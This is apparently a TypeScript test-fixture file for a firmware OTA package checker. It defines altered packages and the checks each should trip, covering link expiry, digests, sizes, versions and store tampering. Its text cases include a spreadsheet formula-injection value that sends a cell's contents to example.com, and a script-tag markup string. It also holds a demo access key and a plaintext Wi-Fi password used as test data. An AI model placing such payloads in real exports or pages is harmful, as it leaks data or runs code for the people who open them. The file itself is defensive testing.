import type { FleetFile, FleetPackage, LinkPlan, MultiFilesShape, StoredObject } from './fleet.ts';
import { madeUpFile } from './package-builder.ts';

/** One thing a user will meet: how a healthy package is changed, and which checks say so. */
export interface CaseSpec {
  title: string;
  /** Check IDs that fail, once for each file. */
  checks: readonly string[];
  change(entry: FleetPackage, nowMs: number): Partial<FleetPackage>;
}

const HOUR_MS = 3_600_000;
const iso = (ms: number): string => new Date(ms).toISOString();

function status(title: string, checks: readonly string[], status: number, verifyProgress: number): CaseSpec {
  return { title, checks, change: () => ({ status, verifyProgress }) };
}

function verifying(
  title: string,
  checks: readonly string[],
  verifyProgress: number,
  ageHours: number,
): CaseSpec {
  const change = (_: FleetPackage, nowMs: number): Partial<FleetPackage> => {
    return { status: 2, verifyProgress, utcModified: iso(nowMs - ageHours * HOUR_MS) };
  };
  return { title, checks, change };
}

function link(title: string, checks: readonly string[], plan: LinkPlan): CaseSpec {
  return {
    title,
    checks,
    change: ({ files }) => ({ files: files.map((file) => ({ ...file, link: plan })) }),
  };
}

function text(title: string, change: Partial<FleetPackage>, checks: readonly string[] = []): CaseSpec {
  return { title, checks, change: () => change };
}

/** The package's files with the same thing changed in each. */
function eachFile(title: string, checks: readonly string[], change: Partial<FleetFile>): CaseSpec {
  return {
    title,
    checks,
    change: ({ files }) => ({ files: files.map((file) => ({ ...file, ...change })) }),
  };
}

/** The package's files with another object in the store than was uploaded. */
function servedAs(
  title: string,
  checks: readonly string[],
  change: (object: StoredObject) => StoredObject,
): CaseSpec {
  return {
    title,
    checks,
    change: ({ files }) => ({
      files: files.map((file) => ({ ...file, served: file.object && change(file.object) })),
    }),
  };
}

type Version = 'V1' | 'V2' | 'V4';
const signed = (version: Version, expiresInSeconds = 86_400): LinkPlan => ({
  kind: 'signed',
  version,
  expiresInSeconds,
});

function multi(
  title: string,
  checks: readonly string[],
  shape: MultiFilesShape,
  links: readonly LinkPlan[],
): CaseSpec {
  const change = (entry: FleetPackage): Partial<FleetPackage> => {
    const files = links.map((plan, at): FleetFile => {
      return madeUpFile(`${entry.firmwareId}/${at}`, `part${at + 1}.bin`, 2_000 + 700 * at, plan);
    });
    return { multiFiles: shape, files };
  };
  return { title, checks, change };
}

const RAW_LINK = 'https://iotx-ota.oss-cn-shanghai.aliyuncs.com/ota/demo/fw.bin';

export const VERIFICATION_CASES: readonly CaseSpec[] = [
  status('unverified', ['unverified'], 0, 0),
  status('unverified, half way', ['unverified'], 0, 50),
  status('verification failed', ['verification-failed'], 3, 60),
  status('verification failed at once', ['verification-failed'], 3, 0),
  status('verification failed with progress 100', ['verification-failed', 'progress-mismatch'], 3, 100),
  verifying('verifying since two hours, progress 0', [], 0, 2),
  verifying('verifying since two hours, progress 55', [], 55, 2),
  verifying('verification stalled for three days', ['verification-stalled'], 30, 72),
  verifying('verification stalled for 25 hours', ['verification-stalled'], 90, 25),
  status('no verification required', ['verification-waived'], -1, 0),
  status('no verification required, progress 100', ['verification-waived'], -1, 100),
  status('a status nobody documented', ['status-unrecognized'], 7, 0),
  status('verified with progress 80', ['progress-mismatch'], 1, 80),
];

export const LINK_CASES: readonly CaseSpec[] = [
  link('V1 link expired', ['url-expired', 'url-unreachable'], signed('V1', -7_200)),
  link('V2 link expired', ['url-expired', 'url-unreachable'], signed('V2', -7_200)),
  link('V4 link expired', ['url-expired', 'url-unreachable'], signed('V4', -7_200)),
  link('V1 link ends in two hours', ['url-expiring'], signed('V1', 7_200)),
  link('V2 link ends in two hours', ['url-expiring'], signed('V2', 7_200)),
  link('V4 link ends in two hours', ['url-expiring'], signed('V4', 7_200)),
  link('unsigned link', ['url-unsigned'], { kind: 'unsigned' }),
  link('no link', ['url-missing'], { kind: 'literal', url: null }),
  link('empty link', ['url-missing'], { kind: 'literal', url: '' }),
  link('link is no URL', ['url-unreadable'], { kind: 'literal', url: 'see the wiki' }),
  link('expiry is no number', ['url-unreadable', 'url-unreachable'], {
    kind: 'literal',
    url: `${RAW_LINK}?Expires=tomorrow&OSSAccessKeyId=LTAI5tOtaStoreDemoKey01&Signature=farzC8%2FVMN4HYdEtXvdiC2OevH0%3D`,
  }),
  link('plain http', ['url-insecure'], { kind: 'signed', version: 'V1', scheme: 'http' }),
  link('foreign host', ['url-foreign-host'], {
    kind: 'signed',
    version: 'V1',
    host: 'firmware.cdn.example.com',
  }),
  link('link signed with a security token', [], { kind: 'signed', version: 'V4', sts: true }),
];

export const MULTI_FILE_CASES: readonly CaseSpec[] = [
  multi('three files, one link expired', ['url-expired', 'url-unreachable'], 'flat', [
    signed('V1'),
    signed('V4', -60),
    signed('V2'),
  ]),
  multi('two files in OtaPackageFileDTO', [], 'OtaPackageFileDTO', [signed('V1'), signed('V1')]),
  multi('two files in MultiFiles.MultiFiles, one without link', ['url-missing'], 'MultiFiles', [
    signed('V4'),
    { kind: 'literal', url: null },
  ]),
  {
    ...multi(
      'two files of one name, one of a type nobody supports',
      ['file-name-duplicate', 'file-type', 'file-type'],
      'flat',
      [signed('V1'), signed('V1')],
    ),
    change: (entry) => ({
      multiFiles: 'flat',
      files: [0, 1].map((at) =>
        madeUpFile(`${entry.firmwareId}/${at}`, 'image.HEX', 2_000 + at, signed('V1')),
      ),
    }),
  },
  {
    title: 'two files by MD5, whose SignValue and FileMd5 differ in one',
    checks: ['digest-inconsistent', 'digest-mismatch', 'digest-weak', 'digest-weak'],
    change: (entry) => ({
      signMethod: 'MD5',
      multiFiles: 'flat',
      files: [0, 1].map((at) => ({
        ...madeUpFile(`${entry.firmwareId}/${at}`, `part${at + 1}.bin`, 2_000 + at, signed('V1')),
        ...(at === 1 && { md5: '5e962cf83db1495e8337e9c8a4d1abcd' }),
      })),
    }),
  },
  multi('one file, as a lone object', [], 'lone-object', [signed('V1')]),
];

export const TEXT_CASES: readonly CaseSpec[] = [
  text('Chinese name and description', {
    firmwareName: '智能灯固件-稳定版',
    description: '修复 Wi-Fi 断线问题，提升稳定性',
  }),
  text('a description that a spreadsheet would run', {
    description: '=HYPERLINK("https://example.com/?x="&A1,"click")',
  }),
  text('a description with commas, quotes and line breaks', {
    description: 'first line, "quoted"\r\nsecond line;\twith a tab',
  }),
  text('a description with markup', { description: '<script>alert("fw")</script> & <b>bold</b>' }),
  text('numbers and booleans as text', { asStrings: true }),
  text('optional fields left out', { omit: ['FirmwareDesc', 'SrcVersion', 'Udi', 'UtcModified'] }, [
    'description-missing',
  ]),
  text('single file with MultiFiles null', { emptyMultiFiles: 'null' }),
  text('single file with MultiFiles []', { emptyMultiFiles: 'array' }),
  text('single file with MultiFiles {}', { emptyMultiFiles: 'object' }),
];

/** The store has something else than was uploaded: what probes are for. */
export const STORE_CASES: readonly CaseSpec[] = [
  eachFile('file deleted from the store', ['url-unreachable'], { served: null }),
  servedAs('file exchanged in the store', ['digest-mismatch'], ({ seed, sizeBytes }) => {
    return { seed: `${seed}/exchanged`, sizeBytes };
  }),
  servedAs('file cut off in the store', ['digest-mismatch', 'size-mismatch'], ({ seed, sizeBytes }) => {
    return { seed, sizeBytes: sizeBytes - 512 };
  }),
];

/** Duplicates have all of this in common. */
const PLACE = {
  productKey: 'a1LampDemo1',
  productName: 'Smart lamp',
  moduleName: 'default',
  type: 0,
  srcVersion: '',
} as const;
const SAME_FILE: FleetFile[] = [madeUpFile('twins', 'fw.bin', 4_000, signed('V1'))];

/** Digests, sizes and versions that do not hold together, and texts that should not be there. */
export const RECORD_CASES: readonly CaseSpec[] = [
  text('digest by MD5, the default of the platform', { signMethod: 'MD5' }, ['digest-weak']),
  eachFile('no digest', ['digest-missing'], { digest: '' }),
  eachFile('digest of another method', ['digest-malformed'], { digest: '5e962cf83db1495e8337e9c8a4d1abcd' }),
  eachFile('size 0', ['size-missing'], { sizeBytes: 0 }),
  eachFile('a record of 1.2 GB', ['size-over-limit', 'size-mismatch'], { sizeBytes: 1_288_490_189 }),
  text('delta without source', { type: 1, srcVersion: '' }, ['delta-without-source']),
  text('a password pushed to every device', { udi: '{"wifi":{"ssid":"plant-7","password":"s3same-open"}}' }, [
    'udi-secret',
  ]),
  text('custom information of 5,000 characters', { udi: 'x'.repeat(5_000) }, ['udi-too-long']),
  status('unverified for months', ['unverified', 'stale-unverified'], 0, 0),
  {
    title: 'verified between list and query',
    checks: ['list-drift'],
    change: ({ utcModified }, nowMs) => ({
      utcModified: iso(nowMs),
      listedAs: { status: 0, utcModified },
    }),
  },
  // Last, among the oldest packages: no delta starts from the versions that these take away.
  text('delta to where it starts', { type: 1, srcVersion: '9.9.9', destVersion: '9.9.9' }, [
    'delta-same-version',
  ]),
  text('a version with a blank', { destVersion: '2.0 beta' }, ['version-malformed']),
  // Of one product and module, whose series the position of a case decides.
  text('one version uploaded twice, the first time', { ...PLACE, destVersion: '9.1.0' }, [
    'version-duplicate',
  ]),
  {
    title: 'one version uploaded twice, the second time',
    checks: ['version-duplicate', 'content-duplicate'],
    change: () => ({ ...PLACE, destVersion: '9.1.0', files: SAME_FILE }),
  },
  {
    title: 'the file of one version uploaded as the next',
    checks: ['content-duplicate'],
    change: () => ({ ...PLACE, destVersion: '9.1.1', files: SAME_FILE }),
  },
];
